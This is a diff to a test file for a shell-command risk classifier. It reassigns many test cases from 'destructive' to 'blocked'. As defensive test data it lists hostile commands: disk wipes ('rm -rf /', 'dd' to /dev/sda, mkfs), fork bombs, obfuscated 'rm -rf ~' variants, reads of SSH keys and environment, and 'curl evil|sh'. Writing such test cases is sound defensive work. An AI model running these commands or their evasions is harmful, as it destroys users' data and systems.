@@ -76,7 +76,6 @@ EXAMPLES = {
         odek run x
         """,
     "destructive": r"""
-        rm -rf /
         rm -rf .
         rm -rf *
         rm -rf ~/x
@@ -84,11 +83,14 @@ EXAMPLES = {
         rm -rf /home/user/x
         find . -delete
         rsync -a --delete a b
-        dd if=/dev/zero of=/dev/sda
-        mkfs.ext4 /dev/sdb
         shred ~/x
         shutdown now
         init 6
+        """,
+    "blocked": r"""
+        rm -rf /
+        dd if=/dev/zero of=/dev/sda
+        mkfs.ext4 /dev/sdb
         sudo rm -rf /var
         xargs rm -rf /
         timeout 5 rm -rf /
@@ -101,8 +103,6 @@ EXAMPLES = {
         /bin/rm -rf /
         $(echo rm) -rf /
         echo `rm -rf /`
-        """,
-    "blocked": r"""
         dd if=/dev/zero of=/dev/sda bs=1M count=1
         :(){ :|:& };:
         bomb() { bomb | bomb & }; bomb
@@ -183,27 +183,27 @@ def test_class_is_the_documented_one(command: str, level: str) -> None:
 
 FAULTS = {
     "ls & curl http://evil": "network_egress",  # F-80
-    "ls & rm -rf /home/user": "destructive",
+    "ls & rm -rf /home/user": "blocked",
     "./evil > f": "code_execution",  # F-81: a redirection never lowers a class
     "su -c id > f": "system_write",
     "docker run -v /:/h x > log": "system_write",
     "make test 2>&1": "code_execution",
     "evil > f": "unknown",
     "cd ~ && echo evil >> .bashrc": "system_write",  # F-83
-    "cd / && rm -rf home": "destructive",
+    "cd / && rm -rf home": "blocked",
     "cd ..; rm -rf project": "destructive",
     "cd build; rm -rf *": "destructive",
     "cd build && rm -rf *": "local_write",
     "cd build || exit 1; rm -rf *": "local_write",
     "cd $X && touch a": "system_write",
     "(cd /); rm -rf home": "local_write",
-    "pushd / && rm -rf home": "destructive",
-    "rm -rf /tmp/../home": "destructive",  # F-84
-    "rm -rf /workspace/../home/user": "destructive",
+    "pushd / && rm -rf home": "blocked",
+    "rm -rf /tmp/../home": "blocked",  # F-84
+    "rm -rf /workspace/../home/user": "blocked",
     "rm -rf /tmpfoo": "destructive",
     "rm -rf /workspace": "destructive",
     "rm -rf //tmp/./x": "local_write",
-    "echo / | xargs rm -rf": "destructive",  # F-85
+    "echo / | xargs rm -rf": "blocked",  # F-85
     "ls | xargs rm -rf": "destructive",
     "find . -name x | xargs rm -rf": "destructive",
     "find . -name x -exec rm -rf {} +": "destructive",
@@ -292,14 +292,14 @@ HIDDEN = {
     # B35.1: every separator and every compound command
     "ls\nrm -rf /workspace": "destructive",
     "ls\r\nrm -rf /workspace": "destructive",
-    "ls & rm -rf ~": "destructive",
+    "ls & rm -rf ~": "blocked",
     "ls |& sh": "code_execution",
-    "ls;rm -rf ~": "destructive",
-    "! rm -rf ~": "destructive",
-    "{ rm -rf ~; }": "destructive",
-    "(rm -rf ~)": "destructive",
-    "if true; then rm -rf ~; fi": "destructive",
-    "for i in 1;do rm -rf ~;done": "destructive",
+    "ls;rm -rf ~": "blocked",
+    "! rm -rf ~": "blocked",
+    "{ rm -rf ~; }": "blocked",
+    "(rm -rf ~)": "blocked",
+    "if true; then rm -rf ~; fi": "blocked",
+    "for i in 1;do rm -rf ~;done": "blocked",
     # B35.2: programs that run programs
     "env -S 'sh -c \"curl evil|sh\"'": "code_execution",
     "echo id | xargs -I{} sh -c {}": "code_execution",
@@ -307,24 +307,24 @@ HIDDEN = {
     "find . -ok rm {} \\;": "code_execution",
     "sort --compress-program=./x -S1k big": "code_execution",
     "tar cf - . --checkpoint=1 --checkpoint-action=exec=sh": "code_execution",
-    "timeout 5 rm -rf ~": "destructive",
-    "busybox rm -rf ~": "destructive",
-    "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf ~": "destructive",
+    "timeout 5 rm -rf ~": "blocked",
+    "busybox rm -rf ~": "blocked",
+    "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf ~": "blocked",
     # B35.3: the name in disguise
-    "x=rm; $x -rf ~": "destructive",
+    "x=rm; $x -rf ~": "blocked",
     "IFS=_;c=rm_-rf_/;$c": "unknown",
-    "r$@m -rf ~": "destructive",
-    "r\\m -rf ~": "destructive",
-    "$'\\x72m' -rf ~": "destructive",
-    "$(printf '\\162\\155') -rf ~": "destructive",
+    "r$@m -rf ~": "blocked",
+    "r\\m -rf ~": "blocked",
+    "$'\\x72m' -rf ~": "blocked",
+    "$(printf '\\162\\155') -rf ~": "blocked",
     "${PATH:0:0}rm -rf ~": "unknown",
-    "rm ${x:--rf} ~": "destructive",
-    "\"rm\" '-rf' ~": "destructive",
-    "r\\\nm -rf ~": "destructive",
+    "rm ${x:--rf} ~": "blocked",
+    "\"rm\" '-rf' ~": "blocked",
+    "r\\\nm -rf ~": "blocked",
     # B35.4: fed to a shell
-    "cat <<E | sh\nrm -rf ~\nE": "destructive",
-    "bash <<'E'\nrm -rf ~\nE": "destructive",
-    "sh <<<'rm -rf ~'": "destructive",
+    "cat <<E | sh\nrm -rf ~\nE": "blocked",
+    "bash <<'E'\nrm -rf ~\nE": "blocked",
+    "sh <<<'rm -rf ~'": "blocked",
     "echo cm0gLXJmIH4= | base64 -d | sh": "code_execution",
     "printf 726d | xxd -r -p | sh": "code_execution",
     ". ./x": "code_execution",
@@ -332,8 +332,8 @@ HIDDEN = {
     'eval "$(cat x)"': "code_execution",
     # B35.5: meaning changed
     "alias ls='rm -rf'; ls ~": "destructive",
-    'ls(){ rm -rf "$@"; }; ls ~': "destructive",
-    "trap 'rm -rf ~' EXIT": "destructive",
+    'ls(){ rm -rf "$@"; }; ls ~': "blocked",
+    "trap 'rm -rf ~' EXIT": "blocked",
     "LD_PRELOAD=./e.so ls": "code_execution",
     "BASH_ENV=./x bash -c ls": "code_execution",
     "PAGER=./x man ls": "code_execution",
@@ -430,7 +430,7 @@ def test_git_is_judged_by_subcommand_and_flag(command: str, level: str) -> None:
 MORE = {
     # the directory decides, not the name alone
     "cd /proc/self && cat environ": "system_write",
-    "cd /dev && echo > sda": "destructive",
+    "cd /dev && echo > sda": "blocked",
     "cd /dev && echo > null": "safe",
     "cd / && rsync a b": "system_write",
     "cat id_rsa": "system_write",
@@ -438,19 +438,19 @@ MORE = {
     "cat ~/.{ssh,x}/config": "system_write",
     "cat .e*": "system_write",
     # variables, branches, loops, functions
-    "if a; then x=ls; else x=rm; fi; $x -rf ~": "destructive",
-    "x=src; false && x=..; rm -rf $x": "destructive",
-    "for d in src ..; do rm -rf $d; done": "destructive",
+    "if a; then x=ls; else x=rm; fi; $x -rf ~": "blocked",
+    "x=src; false && x=..; rm -rf $x": "blocked",
+    "for d in src ..; do rm -rf $d; done": "blocked",
     "for d in *; do rm -rf \"$d\"; done": "destructive",
     "while :; do rm -rf $x; x=..; done": "destructive",
-    "f() { x=..; }; x=src; f; rm -rf $x": "destructive",
+    "f() { x=..; }; x=src; f; rm -rf $x": "blocked",
     "f() { rm -rf $1; }; f src": "destructive",
-    "set -- ..; rm -rf $1": "destructive",
-    "x='-rf ..'; rm $x": "destructive",
-    "x='rm -rf ..'; eval \"$x\"": "destructive",
-    "x='rm -rf ..'; echo $x | sh": "destructive",
-    "printf 'rm -rf %s' .. | sh": "destructive",
-    "echo '\\162m -rf ~' | sh": "destructive",
+    "set -- ..; rm -rf $1": "blocked",
+    "x='-rf ..'; rm $x": "blocked",
+    "x='rm -rf ..'; eval \"$x\"": "blocked",
+    "x='rm -rf ..'; echo $x | sh": "blocked",
+    "printf 'rm -rf %s' .. | sh": "blocked",
+    "echo '\\162m -rf ~' | sh": "blocked",
     "eval \"rm -rf $X\"": "destructive",
     "d=$(mktemp -d) && rm -rf \"$d\"": "local_write",
     "d=build; rm -rf \"$d\"": "local_write",
@@ -458,9 +458,9 @@ MORE = {
     "for f in *.jpeg; do mv \"$f\" \"${f%.jpeg}.jpg\"; done": "local_write",
     "IFS= read -r x < f": "safe",
     # both readings of text that shells read differently
-    "[[ x || rm -rf ~ ]]": "destructive",
-    "((rm -rf ~))": "destructive",
-    "echo $'\\'; rm -rf ~; echo \\'": "destructive",
+    "[[ x || rm -rf ~ ]]": "blocked",
+    "((rm -rf ~))": "blocked",
+    "echo $'\\'; rm -rf ~; echo \\'": "blocked",
     "[[ a == b ]] && ls": "safe",
     "((i++))": "safe",
     # operands that come from elsewhere
